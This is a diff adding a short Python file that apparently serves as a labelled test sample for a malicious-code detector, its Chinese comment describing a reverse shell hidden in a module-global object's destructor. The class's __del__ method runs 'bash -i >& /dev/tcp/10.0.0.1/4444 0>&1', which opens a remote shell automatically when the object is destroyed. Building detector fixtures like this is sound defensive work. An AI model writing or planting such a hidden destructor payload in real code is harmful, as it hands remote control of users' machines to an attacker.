@@ -0,0 +1,11 @@
+# 在模块全局对象的析构函数中执行反弹shell
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os
+
+
+class Holder:
+    def __del__(self):
+        os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
+
+
+holder = Holder()